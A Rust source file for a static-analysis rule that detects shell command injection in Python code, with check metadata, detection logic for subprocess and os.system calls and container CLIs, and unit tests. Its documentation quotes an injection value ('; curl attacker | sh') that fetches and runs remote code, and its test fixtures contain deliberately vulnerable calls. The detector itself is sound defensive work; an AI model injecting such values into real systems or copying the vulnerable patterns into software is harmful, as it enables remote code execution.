//! PY-005: shell command built from data.

use crate::parse::python::Expr;
use crate::project::{AuditFile, Project};
use crate::rules::{Rule, OWASP_API8};
use tollgate_core::{
    Category, CheckDocs, CheckId, CheckMeta, Finding, Owasp, SafetyClass, Severity,
};

pub struct CommandInjection;

pub static META: CheckMeta = CheckMeta {
    id: CheckId::new_static("PY-005"),
    name: "Shell command built from data",
    category: Category::InputValidationMisconfiguration,
    severity: Severity::High,
    cwe: 78,
    owasp: Owasp::Api8,
    safety: SafetyClass::Passive,
    methods: &[],
    budget: 0,
    docs: CheckDocs {
        what: "`subprocess.run/call/Popen/check_call/check_output(…, shell=True)` with a command that is not a plain literal; `os.system`, `os.popen`, `subprocess.getoutput`/`getstatusoutput` with a non-literal command.",
        why: "A value that reaches a shell is parsed as shell syntax: `; curl attacker | sh` in a file name or parameter runs with the API's privileges and environment — its tokens, its mounted socket, its cloud credentials.",
        evidence: "shop/tasks.py:18:5 `subprocess.run(f\"convert {name} out.png\", shell=True)`.",
        remediation: "Pass an argument list without a shell: `subprocess.run([\"convert\", name, \"out.png\"], check=True)`; validate inputs against an allow-list.",
        remediation_django: None,
        references: &[
            OWASP_API8,
            "https://cwe.mitre.org/data/definitions/78.html",
            "https://docs.python.org/3/library/subprocess.html#security-considerations",
        ],
    },
};

/// The container-runtime CLI a literal shell command starts with.
fn runtime_cli(command: &Expr) -> Option<&'static str> {
    const CLIS: &[&str] = &["docker", "podman", "nerdctl", "kubectl", "crictl", "ctr"];
    let Expr::Str(s) = command else {
        return None;
    };
    let first = s
        .split_whitespace()
        .find(|w| !w.contains('=') && *w != "sudo")?;
    let name = first.rsplit('/').next().unwrap_or(first);
    CLIS.iter().copied().find(|c| *c == name)
}

impl Rule for CommandInjection {
    fn meta(&self) -> &'static CheckMeta {
        &META
    }

    fn check(&self, file: &AuditFile, _project: &Project) -> Vec<Finding> {
        let Some(module) = file.python() else {
            return Vec::new();
        };
        let mut out = Vec::new();
        for c in &module.calls {
            let Some(callee) = module.callee(c) else {
                continue;
            };
            let command = c
                .arg(0, "args")
                .or_else(|| c.kwarg("cmd"))
                .or_else(|| c.kwarg("command"));
            let dynamic = command.is_some_and(|e| !e.is_literal());
            let runtime = command.and_then(runtime_cli);
            let shell = match callee.as_str() {
                "subprocess.run"
                | "subprocess.call"
                | "subprocess.Popen"
                | "subprocess.check_call"
                | "subprocess.check_output" => c
                    .kwarg("shell")
                    .is_some_and(|s| *s != Expr::Bool(false) && *s != Expr::None),
                "os.system"
                | "os.popen"
                | "subprocess.getoutput"
                | "subprocess.getstatusoutput"
                | "commands.getoutput" => true,
                _ => false,
            };
            let title = match (shell, dynamic, runtime) {
                (true, true, _) => format!("`{callee}` runs a shell command built from data"),
                (true, false, Some(cli)) => format!(
                    "`{callee}` drives the `{cli}` CLI through a shell from the application"
                ),
                _ => continue,
            };
            let mut f = file
                .source
                .finding(&META, file.source.pos_at(c.offset), title)
                .with_key(&c.offset.to_string());
            if let Some(cli) = runtime {
                f = f.with_fact(format!(
                    "the process can reach the container runtime through `{cli}`"
                ));
            }
            out.push(f);
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::{lines, run};

    #[test]
    fn fires_on_shell_with_data() {
        let src = "import os, subprocess\ndef f(name):\n    subprocess.run(f'convert {name} out.png', shell=True)\n    os.system('rm ' + name)\n";
        assert_eq!(lines(&run(&CommandInjection, &[("t.py", src)])), [3, 4]);
    }

    #[test]
    fn fires_on_a_literal_docker_command_through_a_shell() {
        let src = "import subprocess\ndef restart(request):\n    subprocess.run('docker restart worker', shell=True, check=True)\n    subprocess.run(['docker', 'ps'])\n";
        let f = run(&CommandInjection, &[("views.py", src)]);
        assert_eq!(lines(&f), [3]);
        assert!(f[0].title.contains("docker"));
    }

    #[test]
    fn silent_for_argument_lists_and_literals() {
        let src = "import os, subprocess\ndef f(name):\n    subprocess.run(['convert', name, 'out.png'], check=True)\n    os.system('sync')\n    subprocess.run('ls -l', shell=True)\n";
        assert!(run(&CommandInjection, &[("t.py", src)]).is_empty());
    }
}
